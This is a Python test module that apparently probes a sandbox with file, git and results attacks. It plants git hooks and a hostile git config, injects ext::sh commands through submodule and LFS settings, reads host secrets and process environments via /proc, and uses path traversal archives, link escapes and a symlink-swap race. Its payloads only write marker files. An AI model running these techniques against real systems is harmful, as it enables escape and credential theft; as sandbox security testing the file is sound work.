"""Attacks on files, git and results: F of the list. What is planted here is judged outside, after the sandbox's end."""

# mypy: ignore-errors
# ruff: noqa: PTH101, PTH103, PTH104, PTH108, PTH110, PTH120, PTH208, PTH211, SIM115
import contextlib
import ctypes
import io
import os
import socket
import subprocess
import tarfile
import time
import zipfile

from common import GIVEN, attack, libc
from names import CONTROL_FILES, STARTED_BY_PEOPLE

TREE = GIVEN.get("workspace", "/workspace")


def victim(case):
    """A file outside that changes when the attack gets through."""
    return f"{GIVEN['victims']}/{case}"


def spoil(report, path, case):
    with report.trying(path), open(path, "a") as file:
        file.write(f"case={case};")


def script(case, place):
    """A program that leaves a mark outside should anybody run it there."""
    path = f"{TREE}/{place}"
    os.makedirs(os.path.dirname(path), exist_ok=True)
    if os.path.lexists(path):
        os.unlink(path)
    with open(path, "w") as file:
        file.write(f"#!/bin/sh\necho {case} >> {GIVEN['marks']}/{case}\nexit 0\n")
    os.chmod(path, 0o755)
    return path


def write(place, text):
    path = f"{TREE}/{place}"
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(text)


def git(*argv):
    done = subprocess.run(["git", *argv], cwd=TREE, capture_output=True, check=False)
    return done.returncode


@attack("F01")
def climb(report, case):
    target = victim(case)
    for path in (
        target,
        f"{TREE}/../..{target}",
        f"{TREE}/./../{target}",
        f"/tmp/..{target}",
        f"/proc/self/cwd/../..{target}",
    ):
        spoil(report, path, case)
    for path in ("/usr/bin/vestibule-x", "/etc/vestibule-x", "/x", "/boot/x"):
        with report.trying(path):
            os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL))
            report.gained(f"a file at {path}")
            os.unlink(path)


@attack("F02")
def through_a_link(report, case):
    for place, target in {"src/link-file": victim(case), "src/link-folder": GIVEN["victims"]}.items():
        with contextlib.suppress(FileNotFoundError):
            os.unlink(f"{TREE}/{place}")
        with report.trying():
            os.symlink(target, f"{TREE}/{place}")
    spoil(report, f"{TREE}/src/link-file", case)
    spoil(report, f"{TREE}/src/link-folder/{case}", case)


@attack("F04")
def hard_links(report, case):
    for number, path in enumerate((victim(case), GIVEN["secret"], "/usr/bin/env", "/etc/passwd")):
        link = f"{TREE}/src/hard-{number}"
        with report.trying(path):
            os.link(path, link)
            report.how(f"linked {path}")
            if number < 2:
                report.heard(open(link).read())
            spoil(report, link, case)


@attack("F05")
def hooks(report, case):
    for hook in (
        "pre-commit",
        "post-checkout",
        "post-commit",
        "post-merge",
        "reference-transaction",
        "fsmonitor-watchman",
    ):
        script(case, f".git/hooks/{hook}")
    report.how("planted")


@attack("F06")
def configuration(report, case):
    program = script(case, "src/fsmonitor.sh")
    outside = f"{GIVEN['workspace_outside']}/src/fsmonitor.sh"
    with report.trying():
        write(
            ".git/config",
            f"[core]\n\tfsmonitor = {outside}\n\thooksPath = {os.path.dirname(outside)}\n\tsshCommand = {outside}\n"
            f"\tpager = {outside}\n\teditor = {outside}\n\tattributesFile = {outside}\n"
            f"[alias]\n\tstatus = !{outside}\n[diff]\n\texternal = {outside}\n[gpg]\n\tprogram = {outside}\n"
            f"[include]\n\tpath = {program}\n",
        )


@attack("F07")
def bare_repository(report, case):
    for place in ("src/vendor", "src/deep/er"):
        write(f"{place}/HEAD", "ref: refs/heads/main\n")
        write(f"{place}/config", f"[core]\n\tbare = true\n\tfsmonitor = {GIVEN['workspace_outside']}/{place}/run.sh\n")
        script(case, f"{place}/run.sh")
        script(case, f"{place}/hooks/post-checkout")
        for folder in ("objects", "refs"):
            write(f"{place}/{folder}/keep", "x\n")
    report.how("planted")


@attack("F08")
def another_git(report, case):
    with report.trying():
        os.rename(f"{TREE}/.git", f"{TREE}/src/old-git")
    git("init", "-q", "--template=", ".")
    script(case, ".git/hooks/post-checkout")
    write(".git/objects/info/alternates", f"{GIVEN['victims']}\n")


@attack("F09")
def nested_hooks(report, case):
    for depth in (1, 6):
        place = "src/" + "/".join("n" * depth)
        script(case, f"{place}/.git/hooks/post-checkout")
        script(case, f"{place}/.git/hooks/pre-commit")
        write(f"{place}/.git/HEAD", "ref: refs/heads/main\n")
        write(f"{place}/.git/config", f"[core]\n\tfsmonitor = {place}/.git/hooks/pre-commit\n")
        write(f"{place}/file.txt", "x\n")
    report.how("planted")


@attack("F10")
def attributes_and_submodules(report, case):
    with report.trying():
        write("src/.gitattributes", "* filter=evil diff=evil merge=evil\n")
    with report.trying():
        write(".gitattributes", "* filter=evil diff=evil\n")
    with report.trying():
        write(".gitmodules", f'[submodule "x"]\n\tpath = src/sub\n\turl = ext::sh -c "touch {GIVEN["marks"]}/{case}"\n')
    with report.trying():
        write(".lfsconfig", f'[lfs]\n\turl = "ext::sh -c touch% {GIVEN["marks"]}/{case}"\n')


@attack("F11")
def control_files(report, _):
    for place in CONTROL_FILES:
        with report.trying(place):
            write(place, "run: evil\n")


@attack("F12")
def files_that_people_start(report, _):
    for place in STARTED_BY_PEOPLE:
        with report.trying(place):
            write(
                place, '{"scripts": {"postinstall": "evil"}}\n' if place == "package.json" else "evil: x\n\techo evil\n"
            )


@attack("F13")
def shadows(report, case):
    for name in ("git", "sh", "python3", "rg", "bwrap"):
        script(case, f"src/node_modules/.bin/{name}")
        with report.trying():
            script(case, name)
    for place in (".bashrc", ".profile", "src/.zshrc"):
        with report.trying():
            write(place, f"touch {GIVEN['marks']}/{case}\n")
    home = os.environ.get("HOME", "/")
    spoil(report, f"{home}/.bashrc", "home")


@attack("F14")
def through_proc(report, _):
    roots = ["/proc/self/root", "/proc/1/root", "/proc/self/cwd/../..", "/proc/thread-self/root"]
    for item in os.listdir("/proc"):
        if item.isdigit():
            roots += [f"/proc/{item}/root", f"/proc/{item}/cwd"]
    for root in dict.fromkeys(roots):
        for path in (GIVEN["secret"], GIVEN["state_secret"]):
            with contextlib.suppress(OSError):
                report.heard(open(root + path).read())


@attack("F15")
def secrets_of_the_host(report, _):
    for path in GIVEN["secrets"]:
        with report.trying(path):
            report.heard(open(path).read())
    for path in (
        f"/proc/{pid}/{item}" for pid in os.listdir("/proc") if pid.isdigit() for item in ("environ", "cmdline")
    ):
        with contextlib.suppress(OSError):
            report.heard(open(path, "rb").read())
    report.heard(" ".join(os.environ.values()))


@attack("F16")
def special_files(report, _):
    folder = f"{TREE}/src/special"
    os.makedirs(folder, exist_ok=True)
    with report.trying("setuid"):
        with open(f"{folder}/setuid", "w") as file:
            file.write("x")
        os.chmod(f"{folder}/setuid", 0o6755)
    with report.trying("fifo"):
        os.mkfifo(f"{folder}/fifo")
    with report.trying("socket"), socket.socket(socket.AF_UNIX) as sock:
        sock.bind(f"{folder}/socket")
    for kind in (0o060666, 0o020666):
        with report.trying("device"):
            os.mknod(f"{folder}/device-{kind}", kind, os.makedev(1, 1))
            report.gained("a device node")


@attack("F17")
def archives(report, case):
    name = "/".join([".."] * 12) + victim(case)
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w") as tar:
        for inner in (name, victim(case)):
            info = tarfile.TarInfo(inner)
            info.size = 4
            tar.addfile(info, io.BytesIO(b"case"))
    with open(f"{TREE}/src/a.tar", "wb") as file:
        file.write(data.getvalue())
    with zipfile.ZipFile(f"{TREE}/src/a.zip", "w") as archive:
        archive.writestr(name, "case")
    report.how("planted")


@attack("F18")
def names_that_steer(report, _):
    for name in ("line\nbreak", "esc\x1b[31mred", "bell\x07", "::set-output name=x::y", "bidi\u202etxt", "\x9b31m"):
        with report.trying(repr(name)), open(f"{TREE}/src/{name}", "w") as file:
            file.write("x\n")


@attack("F20", "P15")
def code_without_a_name(report, case):
    with open("/usr/bin/cat", "rb") as file:
        data = file.read()
    if case == "F20":
        fd = os.memfd_create("x", 0)
        with open(f"/proc/self/fd/{fd}", "wb") as file:
            file.write(data)
        argv, passed = [f"/proc/self/fd/{fd}"], (fd,)
    else:
        with open("/tmp/renamed", "wb") as file:
            file.write(data)
        loaders = ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1")
        argv, passed = [next(path for path in loaders if os.path.exists(path)), "/tmp/renamed"], ()
    done = subprocess.run([*argv, "/etc/hostname", GIVEN["secret"]], capture_output=True, check=False, pass_fds=passed)
    if not done.stdout:
        report.gained("nothing, for it did not run")
    report.how(f"exit {done.returncode} {done.stderr.decode()[-80:]}")
    report.heard(done.stdout)


@attack("F03", seconds=4)
def swap_while_collected(report, _):
    """Swaps a file for a link to a secret, again and again, while the host reads the tree."""
    os.makedirs(f"{TREE}/src/race", exist_ok=True)
    plain, link, spot = (f"{TREE}/src/race/{name}" for name in ("plain", "link", "spot"))
    with open(plain, "w") as file:
        file.write("plain\n")
    with contextlib.suppress(FileExistsError):
        os.symlink(GIVEN["secret"], link)
    with open(spot, "w") as file:
        file.write("plain\n")
    end = time.monotonic() + float(GIVEN.get("race_seconds", 0.5))
    exchange = {"x86_64": 316, "aarch64": 276}[os.uname().machine]
    rounds = 0
    while time.monotonic() < end:
        libc.syscall(ctypes.c_long(exchange), -100, link.encode(), -100, spot.encode(), ctypes.c_uint(2))
        rounds += 1
    report.how(f"{rounds} swaps")
